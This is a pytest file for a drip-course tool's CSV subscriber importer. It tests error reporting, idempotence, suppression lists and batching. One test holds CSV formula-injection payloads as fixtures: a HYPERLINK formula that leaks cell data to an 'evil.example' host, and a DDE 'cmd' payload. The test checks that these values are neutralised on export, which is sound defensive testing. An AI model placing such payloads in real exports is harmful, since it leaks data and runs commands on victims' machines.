"""CSV import: every bad row reported with its line, nothing written unless asked, idempotent, formulas inert."""

from __future__ import annotations

import datetime as dt
import io
import shutil
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from dbfixtures import COURSE, course_site

from drip.config import load_site
from drip.course.compile import compile_course
from drip.course.models import Course
from drip.errors import InputError
from drip.runtime import Runtime
from drip.store.importer import import_csv, read_csv
from drip.store.schema import deliveries, enrollments, metadata, subscribers
from drip.store.subscribers import (
    CHUNK,
    export_subscribers,
    get_subscriber,
    make_profile,
    store_profiles,
    unsubscribe,
)
from drip.store.suppressions import SuppressionReason, suppress
from drip.tokens import MissingSecret

CSV = Path(__file__).parent / "fixtures" / "csv"
NOW = dt.datetime(2026, 12, 1, 7, 0, tzinfo=dt.UTC)


def env_secret() -> str:
    """The key as a command finds it, read when the suppression list first needs it."""
    return Runtime().secret


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory) -> Course:
    return compile_course(load_site(course_site(tmp_path_factory.mktemp("site"))), COURSE)


def snapshot(engine: sa.Engine) -> dict[str, list[tuple[Any, ...]]]:
    """Every row of every drip table, to compare a store before and after."""
    with engine.connect() as conn:
        return {
            name: [tuple(row) for row in conn.execute(sa.select(table).order_by(*table.primary_key.columns))]
            for name, table in metadata.tables.items()
        }


def count(engine: sa.Engine, table: sa.Table) -> int:
    with engine.connect() as conn:
        return conn.execute(sa.select(sa.func.count()).select_from(table)).scalar_one()


BAD_ROWS = [
    "bad_rows.csv:3: email: invalid address 'pas-une-adresse': An email address must have an @-sign.",
    "bad_rows.csv:4: email: no email address",
    "bad_rows.csv:5: name: a name cannot contain control characters such as line breaks",
    "bad_rows.csv:7: email: duplicate address ok@example.org, already on line 2",
    "bad_rows.csv:8: email: invalid address 'eve@example': "
    "The part after the @-sign is not valid. It should have a period.",
    "bad_rows.csv:9: 4 cells but the header names 3 columns (a separator inside an unquoted value?)",
]


def test_every_bad_row_is_reported_with_its_line_and_nothing_is_written(
    engine: sa.Engine, course: Course
) -> None:
    before = snapshot(engine)
    with pytest.raises(InputError) as caught, engine.begin() as conn:
        import_csv(conn, CSV / "bad_rows.csv", course, now=NOW, secret=env_secret)
    assert [str(p).removeprefix(str(CSV) + "/") for p in caught.value.problems] == BAD_ROWS
    assert all(p.file == CSV / "bad_rows.csv" for p in caught.value.problems)
    assert snapshot(engine) == before


def test_skip_invalid_imports_the_valid_rows_and_reports_the_rest(engine: sa.Engine, course: Course) -> None:
    with engine.begin() as conn:
        report = import_csv(conn, CSV / "bad_rows.csv", course, skip_invalid=True, now=NOW, secret=env_secret)
    assert [str(p).removeprefix(str(CSV) + "/") for p in report.skipped] == BAD_ROWS
    assert (report.created, report.enrolled, report.no_zone) == (2, 2, 1)
    assert [str(w).removeprefix(str(CSV) + "/") for w in report.warnings] == [
        "bad_rows.csv:10: timezone: unknown time zone 'Europe/Pariss' (did you mean 'Europe/Paris'?): "
        "the course's zone applies"
    ]
    with engine.connect() as conn:
        emails = conn.execute(sa.select(subscribers.c.email).order_by(subscribers.c.email)).scalars().all()
        gina = get_subscriber(conn, "gina@example.org")
    assert emails == ["gina@example.org", "ok@example.org"]
    assert gina is not None and gina.timezone is None  # never silently UTC
    assert count(engine, deliveries) == 2 * len(course.steps)


def test_importing_the_same_file_twice_changes_nothing(engine: sa.Engine, course: Course) -> None:
    with engine.begin() as conn:
        first = import_csv(conn, CSV / "valid.csv", course, now=NOW, secret=env_secret)
    after_first = snapshot(engine)
    with engine.begin() as conn:
        second = import_csv(
            conn, CSV / "valid.csv", course, now=NOW + dt.timedelta(days=2), secret=env_secret
        )
    assert (first.created, first.enrolled) == (3, 3)
    assert (second.created, second.updated, second.unchanged, second.enrolled, second.already_enrolled) == (
        0,
        0,
        3,
        0,
        3,
    )
    assert snapshot(engine) == after_first
    with engine.connect() as conn:
        jean = get_subscriber(conn, "jean.dupont@example.fr")
        claire = get_subscriber(conn, "claire@exemple.fr")
    assert jean is not None and claire is not None
    assert (jean.name, jean.locale, jean.timezone) == ("Jean Dupont", "fr", "Europe/Paris")
    assert dict(jean.attributes) == {"entreprise": "Acme", "role": "CTO"}
    assert (claire.locale, claire.timezone) == ("fr", "America/Montreal")


def test_a_reimport_updates_changed_fields_without_re_enrolling(
    engine: sa.Engine, course: Course, tmp_path: Path
) -> None:
    with engine.begin() as conn:
        import_csv(conn, CSV / "valid.csv", course, now=NOW, secret=env_secret)
    edited = tmp_path / "valid.csv"
    edited.write_text(
        (CSV / "valid.csv").read_text(encoding="utf-8").replace("Initech,Lead dev", "Initech,CTO"),
        encoding="utf-8",
    )
    with engine.begin() as conn:
        report = import_csv(conn, edited, course, now=NOW + dt.timedelta(days=1), secret=env_secret)
    assert (report.updated, report.unchanged, report.enrolled) == (1, 2, 0)
    assert count(engine, deliveries) == 3 * len(course.steps)
    with engine.connect() as conn:
        claire = get_subscriber(conn, "claire@exemple.fr")
    assert claire is not None and claire.attributes["role"] == "CTO"


def test_a_reimport_does_not_bring_back_someone_who_unsubscribed(engine: sa.Engine, course: Course) -> None:
    with engine.begin() as conn:
        import_csv(conn, CSV / "valid.csv", course, now=NOW, secret=env_secret)
        unsubscribe(conn, "sam@example.org", now=NOW)
    other = Course(**{**course.__dict__, "slug": "autre"})
    with engine.begin() as conn:
        report = import_csv(conn, CSV / "valid.csv", other, now=NOW, secret=env_secret)
    assert report.enrolled == 2
    assert [str(w).removeprefix(str(CSV) + "/") for w in report.warnings] == [
        "valid.csv:4: email: sam@example.org is unsubscribed: not enrolled in 'autre'"
    ]
    with engine.connect() as conn:
        sam = get_subscriber(conn, "sam@example.org")
        sam_pending = conn.execute(
            sa.select(sa.func.count()).where(
                deliveries.c.subscriber_id == (sam.id if sam else -1), deliveries.c.status == "pending"
            )
        ).scalar_one()
    assert sam is not None and sam.status == "unsubscribed" and sam_pending == 0


def test_formula_cells_are_stored_as_text_and_neutralised_on_export(
    engine: sa.Engine, course: Course
) -> None:
    with engine.begin() as conn:
        import_csv(conn, CSV / "formulas.csv", course, skip_invalid=False, now=NOW, secret=env_secret)
    with engine.connect() as conn:
        first = get_subscriber(conn, "=1+1@example.org")
        lea = get_subscriber(conn, "lea@example.org")
        out = io.StringIO()
        export_subscribers(conn, out, fmt="csv")
    assert first is not None and lea is not None
    assert first.name == '=HYPERLINK("http://evil.example/?x="&A1)'
    assert dict(first.attributes) == {"note": "+33 6 12 34 56 78", "lien": "@SUM(A1:A2)"}
    assert lea.name == "-Léa" and dict(lea.attributes) == {"note": "\ttab", "lien": "=cmd|' /C calc'!A0"}
    exported = out.getvalue().splitlines()
    assert exported[0] == "email,name,locale,timezone,status,created_at,unsubscribed_at,lien,note"
    assert exported[1] == (
        '\'=1+1@example.org,"\'=HYPERLINK(""http://evil.example/?x=""&A1)",,,active,'
        "2026-12-01T07:00:00+00:00,,'@SUM(A1:A2),'+33 6 12 34 56 78"
    )
    assert exported[2] == (
        "lea@example.org,'-Léa,,,active,2026-12-01T07:00:00+00:00,,'=cmd|' /C calc'!A0,'\ttab"
    )


def test_semicolon_files_and_header_case_are_understood() -> None:
    parsed = read_csv(CSV / "semicolon.csv")
    assert parsed.problems == ()
    assert [
        (r.line, r.profile.email, r.profile.timezone, dict(r.profile.attributes)) for r in parsed.rows
    ] == [
        (2, "marie@exemple.fr", "Europe/Paris", {"Nom": "Curie", "Prénom": "Marie"}),
        (3, "pierre@exemple.fr", "Europe/Paris", {"Nom": "Curie", "Prénom": "Pierre"}),
    ]


def test_a_quoted_line_break_keeps_the_following_line_numbers_right(tmp_path: Path) -> None:
    path = tmp_path / "notes.csv"
    path.write_text(
        'email,note\na@example.org,"ligne 1\nligne 2\nligne 3"\n\nb@example,x\n', encoding="utf-8"
    )
    parsed = read_csv(path)
    assert parsed.rows[0].profile.attributes == {"note": "ligne 1\nligne 2\nligne 3"}
    assert [(p.line, p.key) for p in parsed.problems] == [(6, "email")]


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        (
            "no_email_column.csv",
            None,
            "no_email_column.csv:1: no 'email' column: the first line must name the columns, one of them 'email' "
            "(is 'mail' the email column? rename it 'email')",
        ),
        ("latin1.csv", None, "latin1.csv:2:19: not UTF-8 text (byte 0xe9): save the file as CSV UTF-8"),
        ("empty.csv", "", "empty.csv: the file is empty: expected a header line naming an 'email' column"),
        ("twice.csv", "email,name,Name\n", "twice.csv:1:3: column 'name' appears twice"),
    ],
)
def test_file_level_problems_are_located(
    tmp_path: Path, name: str, content: str | None, message: str
) -> None:
    path = tmp_path / name
    if content is None:
        shutil.copy(CSV / name, path)
    else:
        path.write_text(content, encoding="utf-8")
    with pytest.raises(InputError) as caught:
        read_csv(path)
    assert [str(p).removeprefix(str(tmp_path) + "/") for p in caught.value.problems] == [message]


def test_an_import_with_problems_leaves_enrollments_untouched_too(engine: sa.Engine, course: Course) -> None:
    with engine.begin() as conn:
        import_csv(conn, CSV / "valid.csv", course, now=NOW, secret=env_secret)
    before = snapshot(engine)
    with pytest.raises(InputError), engine.begin() as conn:
        import_csv(
            conn,
            CSV / "bad_rows.csv",
            Course(**{**course.__dict__, "slug": "autre"}),
            now=NOW,
            secret=env_secret,
        )
    assert snapshot(engine) == before
    assert count(engine, enrollments) == 3


def test_a_file_larger_than_one_batch_is_imported_whole(
    engine: sa.Engine, course: Course, tmp_path: Path
) -> None:
    size = 2 * CHUNK + 1
    zones = ("Europe/Paris", "America/New_York", "")
    path = tmp_path / "big.csv"
    path.write_text(
        "email,timezone\n" + "".join(f"u{i}@example.org,{zones[i % 3]}\n" for i in range(size)),
        encoding="utf-8",
    )
    with engine.begin() as conn:  # one of them is already there, in another zone
        import_csv(conn, CSV / "valid.csv", course, now=NOW, secret=env_secret)
        conn.execute(
            subscribers.update()
            .where(subscribers.c.email == "sam@example.org")
            .values(email="u7@example.org")
        )
    with engine.begin() as conn:
        report = import_csv(conn, path, course, now=NOW, secret=env_secret)
    assert (report.created, report.updated, report.enrolled, report.already_enrolled) == (
        size - 1,
        1,
        size - 1,
        1,
    )
    with engine.connect() as conn:
        second_steps = dict(
            conn.execute(
                sa.select(subscribers.c.email, deliveries.c.due_at)
                .join(deliveries, deliveries.c.subscriber_id == subscribers.c.id)
                .where(deliveries.c.step_key == course.steps[1].key)
            ).all()
        )
    assert len(second_steps) == size + 2
    paris, new_york = (
        dt.datetime(2026, 12, 3, 7, 30, tzinfo=dt.UTC),
        dt.datetime(2026, 12, 3, 13, 30, tzinfo=dt.UTC),
    )
    assert second_steps["u0@example.org"] == second_steps[f"u{size - 2}@example.org"] == paris
    assert second_steps["u1@example.org"] == second_steps[f"u{CHUNK + 2}@example.org"] == new_york
    assert second_steps["u2@example.org"] == paris  # no zone: the course's
    assert second_steps["u7@example.org"] == paris  # enrolled before (as sam, no zone): not rescheduled


def test_the_batch_writer_refuses_an_address_twice(engine: sa.Engine) -> None:
    profile = make_profile("a@example.org")
    with pytest.raises(ValueError, match="an address appears twice"), engine.begin() as conn:
        store_profiles(conn, [profile, profile], now=NOW)


KEY = "k" * 32


def test_suppressed_addresses_are_left_out_and_not_stored_again(
    engine: sa.Engine, course: Course, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DRIP_SECRET_KEY", KEY)
    with engine.begin() as conn:
        suppress(conn, KEY, "claire@exemple.fr", SuppressionReason.ERASED, now=NOW)
        report = import_csv(conn, CSV / "valid.csv", course, now=NOW, secret=env_secret)
    assert (report.created, report.enrolled, report.suppressed) == (2, 2, 1)
    assert [str(w).removeprefix(str(CSV) + "/") for w in report.warnings] == [
        "valid.csv:3: email: claire@exemple.fr is on the suppression list (erased): not imported; "
        "only a subscription confirmed by its owner brings it back"
    ]
    with engine.connect() as conn:
        assert get_subscriber(conn, "claire@exemple.fr") is None


def test_a_suppression_list_cannot_be_checked_without_its_key(
    engine: sa.Engine, course: Course, monkeypatch: pytest.MonkeyPatch
) -> None:
    with engine.begin() as conn:
        suppress(conn, KEY, "claire@exemple.fr", SuppressionReason.ERASED, now=NOW)
    before = snapshot(engine)
    monkeypatch.delenv("DRIP_SECRET_KEY", raising=False)
    with pytest.raises(MissingSecret, match="DRIP_SECRET_KEY is not set"), engine.begin() as conn:
        import_csv(conn, CSV / "valid.csv", course, now=NOW, secret=env_secret)
    assert snapshot(engine) == before


def test_an_empty_suppression_list_needs_no_key(
    engine: sa.Engine, course: Course, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("DRIP_SECRET_KEY", raising=False)
    with engine.begin() as conn:
        assert import_csv(conn, CSV / "valid.csv", course, now=NOW, secret=env_secret).created == 3
